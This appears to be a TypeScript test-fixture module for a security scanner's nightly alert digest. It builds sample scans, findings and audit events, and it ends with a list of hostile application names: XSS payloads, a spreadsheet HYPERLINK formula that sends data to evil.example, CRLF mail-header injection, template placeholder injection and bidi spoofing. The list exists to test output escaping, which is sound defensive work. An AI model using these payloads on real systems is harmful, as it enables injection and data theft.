import { type AlertHistory, type AlertRules, type Digest, DigestBuilder } from '../../src/model/alerts/digest.js';
import { worldwide } from '../../src/model/entra/clouds.js';
import type { AuditEvent } from '../../src/model/finding/audit.js';
import type { Finding } from '../../src/model/finding/finding.js';
import { propose, type Remediation } from '../../src/model/remediation/remediation.js';
import type { Scan } from '../../src/model/scan/scan.js';
import { rules as catalogue } from '../../src/rules/index.js';
import { aFinding, aScan } from '../storage/examples.js';

/** The night of the examples: Tuesday, 24 November 2026. */
export const night = {
  from: '2026-11-23T02:10:00.000Z',
  start: '2026-11-24T02:00:00.000Z',
  until: '2026-11-24T02:10:00.000Z',
} as const;
const before = '2026-11-01T02:00:00.000Z';

export const quietPast: AlertHistory = { previousIncomplete: false, warnings: [] };
export const plainRules: AlertRules = { catalogue, cloud: worldwide, minSeverity: 'low', weeklySummary: false };

export function completeScan(other: Partial<Scan> = {}): Scan {
  return aScan('s2', {
    status: 'complete',
    startedAt: night.start,
    since: night.start,
    finishedAt: night.until,
    ...other,
  });
}

/** A finding that is open for weeks; each name gives another finding. */
export function standing(name: string, other: Partial<Finding> = {}): Finding {
  return aFinding('no-symmetric-signing-key', name, {
    displayName: name,
    appearedAt: before,
    changedAt: before,
    ...other,
  });
}

/** A finding of this night. */
export function appeared(name: string, other: Partial<Finding> = {}): Finding {
  return standing(name, { appearedAt: night.start, changedAt: night.start, ...other });
}

export function aRemediation(status: Remediation['status'], other: Partial<Remediation> = {}): Remediation {
  const plan = { requests: [], irreversible: true, warnings: [], guard: null };
  return { ...propose('0123456789abcdef', plan, before), status, ...other };
}

export function happened(finding: Finding, type: AuditEvent['type'], at: string = night.start): AuditEvent {
  const { tenantId, ruleId, id } = finding;
  return { tenantId, ruleId, findingId: id, at, type, author: 'somebody', summary: '', detail: {} };
}

/** The digest of a night, from findings with or without their history. */
export function digestOf(
  findings: readonly (Finding | readonly [Finding, ...AuditEvent[]])[],
  options: { scan?: Partial<Scan>; past?: Partial<AlertHistory>; rules?: Partial<AlertRules>; from?: string } = {},
): Digest | undefined {
  const scan = completeScan(options.scan);
  const window = { from: options.from ?? night.from, until: scan.finishedAt ?? scan.startedAt };
  const past = { ...quietPast, ...options.past };
  const builder = new DigestBuilder(scan, window, past, { ...plainRules, ...options.rules });
  for (const entry of findings) {
    const [finding, ...events] = Array.isArray(entry) ? entry : [entry];
    builder.add(finding, events);
  }
  return builder.digest();
}

/** The text without lone surrogates, as UTF-8 encodes it. */
export const wellFormed = (text: string) => Buffer.from(text).toString('utf8');

/** Hostile names of an application. */
export const hostileNames = [
  '<img src=x onerror=alert(1)>',
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '[Sign in](https://evil.example)',
  '![x](https://evil.example/x.png) **bold** _it_ `code`',
  'safe\u202egnp.exe\u2066\u200b\ufeff',
  '</td></tr><script>alert(1)</script>" style="position:fixed',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a card template's placeholder is the point
  '{{DATE(2026-11-24T02:00:00Z,LONG)}} ${secret} @{triggerBody()}',
  'first line\r\nBcc: everybody@evil.example\r\n\r\n.',
  '\u001b]0;owned\u0007 www.evil.example javascript:alert(1)',
  `${'x'.repeat(20_000)}\ud800`,
] as const;
